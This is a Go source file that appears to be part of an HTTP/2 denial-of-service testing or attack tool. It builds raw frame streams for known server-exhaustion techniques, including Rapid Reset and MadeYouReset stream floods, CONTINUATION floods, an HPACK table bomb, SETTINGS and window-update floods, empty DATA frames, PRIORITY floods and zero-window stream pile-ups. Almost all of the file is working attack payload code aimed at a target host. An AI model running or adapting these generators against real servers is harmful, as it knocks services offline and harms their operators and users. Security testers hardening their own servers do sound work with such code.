package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// sendSize is about what an attack sends at once.
const sendSize = 16 << 10

// h2 repeats what a generator gives after the preface of HTTP/2.
func h2(begin func() (next func() []byte)) func(*attacker) (func(context.Context), error) {
	preface := append([]byte(http2.ClientPreface), frame(nil, 4, 0, 0, "")...)
	return repeat("h2", true, func() func() []byte {
		next, first := begin(), true
		return func() []byte {
			if first {
				first = false
				return preface
			}
			return next()
		}
	})
}

// frame appends a frame.
func frame(b []byte, kind, flags byte, stream uint32, payload string) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

const (
	endStream  = 1
	endHeaders = 4
)

// block is the header of a request, which needs no state: every field is in the static table, or not indexed.
func block(method string, more ...hpack.HeaderField) string {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	enc.SetMaxDynamicTableSize(0)
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: "/"}}, more...) {
		_ = enc.WriteField(f) // to memory
	}
	return b.String()
}

// requests makes requests of one stream each: what appendOne adds is repeated.
func requests(appendOne func(b []byte, stream uint32) []byte) func() func() []byte {
	return func() func() []byte {
		var stream uint32 = 1
		b := make([]byte, 0, 2*sendSize)
		return func() []byte {
			for b = b[:0]; len(b) < sendSize; stream += 2 {
				b = appendOne(b, stream)
			}
			return b
		}
	}
}

var get, post = block("GET"), block("POST")

var rapidResets = requests(func(b []byte, stream uint32) []byte {
	return frame(frame(b, 1, endStream|endHeaders, stream, get), 3, 0, stream, "\x00\x00\x00\x08")
})

// madeYouReset has the server reset the stream: an increment of nothing is an error.
var madeYouReset = requests(func(b []byte, stream uint32) []byte {
	return frame(frame(b, 1, endStream|endHeaders, stream, get), 8, 0, stream, "\x00\x00\x00\x00")
})

// largeHeads asks with so many short fields besides.
func largeHeads(n int) func() func() []byte {
	var more []hpack.HeaderField
	for range n {
		more = append(more, hpack.HeaderField{Name: "a", Value: "b"})
	}
	large := block("GET", more...)
	return requests(func(b []byte, stream uint32) []byte { return frame(b, 1, endStream|endHeaders, stream, large) })
}

var manyFields, tooManyFields = largeHeads(120), largeHeads(400)

// always sends the same after a beginning.
func always(begin, then []byte) func() func() []byte {
	return func() func() []byte {
		first := true
		return func() []byte {
			if first {
				first = false
				return append(begin[:len(begin):len(begin)], then...)
			}
			return then
		}
	}
}

// repeatFrame sends one frame again and again.
func repeatFrame(kind, flags byte, stream uint32, payload string) func() func() []byte {
	var b []byte
	for len(b) < sendSize {
		b = frame(b, kind, flags, stream, payload)
	}
	return always(nil, b)
}

var (
	continuation = func() func() func() []byte {
		fields := strings.Repeat("\x00\x01a\x01b", 3000)
		return always(frame(nil, 1, endStream, 1, get), frame(nil, 9, 0, 1, fields))
	}()
	emptyContinuation = func() func() func() []byte {
		var b []byte
		for len(b) < sendSize {
			b = frame(b, 9, 0, 1, "")
		}
		return always(frame(nil, 1, endStream, 1, get), b)
	}()
	priorities = func() func() func() []byte {
		var b []byte
		for stream := uint32(3); len(b) < sendSize; stream += 2 {
			b = frame(b, 2, 0, stream, "\x00\x00\x00\x01\x10")
		}
		return always(nil, b)
	}()
)

// hpackBomb puts a large field into the table, and names it as often as a frame has room for.
func hpackBomb() func() []byte {
	var stream uint32 = 1
	value := strings.Repeat("v", 3900)
	add := get + "\x40\x01a" + "\x7f\xbd\x1d" + value // a literal with indexing; 127 + 3773 bytes
	names := get + strings.Repeat("\xbe", sendSize-len(get))
	b := frame(nil, 1, endStream|endHeaders, stream, add)
	return func() []byte {
		out := b
		stream += 2
		b = frame(b[len(b):], 1, endStream|endHeaders, stream, names)
		return out
	}
}

// windowSettings opens streams and moves the windows of all of them.
func windowSettings() func() []byte {
	var begin, b []byte
	for i := range uint32(100) {
		begin = frame(begin, 1, endHeaders, 1+2*i, post)
	}
	for len(b) < sendSize {
		b = frame(b, 4, 0, 0, "\x00\x04\x00\x00\x00\x01")
		b = frame(b, 4, 0, 0, "\x00\x04\x00\x00\xff\xff")
	}
	return always(begin, b)()
}

// dataFrames sends a body in frames of nothing, or nearly so.
func dataFrames(payload string) func() func() []byte {
	var b []byte
	for len(b) < sendSize {
		b = frame(b, 0, 0, 1, payload)
	}
	return always(frame(nil, 1, endHeaders, 1, post), b)
}

// unreadStreams asks with a window of nothing, so that no answer can be sent, and then keeps the connection busy
// with what would be answers of its own.
func unreadStreams() func() []byte {
	begin := frame(nil, 4, 0, 0, "\x00\x04\x00\x00\x00\x00")
	b := begin
	for i := range uint32(1000) {
		b = frame(b, 1, endStream|endHeaders, 1+2*i, get)
	}
	return always(b, frame(nil, 6, 0, 0, "12345678"))()
}
